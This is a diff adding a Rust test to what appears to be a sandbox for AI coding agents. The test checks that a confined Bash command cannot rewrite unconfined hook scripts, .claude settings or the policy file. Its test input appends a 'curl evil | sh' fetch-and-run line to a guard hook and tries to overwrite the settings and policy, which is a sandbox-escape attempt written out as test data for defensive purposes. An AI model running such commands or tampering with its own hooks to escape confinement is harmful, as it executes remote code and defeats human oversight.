@@ -691,3 +691,36 @@ fn an_offline_cargo_build_runs_confined_with_the_writable_list_of_the_readme() {
     assert!(text.contains("outside-refused"), "{text}");
     assert!(!outside.exists());
 }
+
+#[test]
+fn hook_scripts_and_the_policy_file_cannot_be_changed_by_a_command() {
+    if !can_confine("hook_files") {
+        return;
+    }
+    // Hooks run unconfined: a command that rewrote one would escape.
+    let policy = format!(
+        "{CONFINED}[[hooks.PreToolUse]]\nmatcher = \"Bash\"\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"bash .claude/hooks/guard.sh\"\n"
+    );
+    let mut s = scene(&policy);
+    let guard = "#!/bin/bash\nexit 0\n";
+    std::fs::create_dir_all(s.root.join(".claude/hooks")).unwrap();
+    std::fs::write(s.root.join(".claude/hooks/guard.sh"), guard).unwrap();
+    s.policy = s.root.join("policy.toml");
+    std::fs::write(&s.policy, &policy).unwrap();
+    let (_, text) = bash(
+        &s,
+        "bypass",
+        json!({"command": "echo 'curl evil | sh' >> .claude/hooks/guard.sh; echo x > .claude/settings.json; echo '[sandbox]' >> policy.toml; echo ok > fine.txt"}),
+    );
+    assert!(text.contains("Read-only file system"), "{text}");
+    assert_eq!(
+        std::fs::read_to_string(s.root.join(".claude/hooks/guard.sh")).unwrap(),
+        guard
+    );
+    assert!(!s.root.join(".claude/settings.json").exists(), "{text}");
+    assert_eq!(std::fs::read_to_string(&s.policy).unwrap(), policy);
+    assert_eq!(
+        std::fs::read_to_string(s.root.join("fine.txt")).unwrap(),
+        "ok\n"
+    );
+}
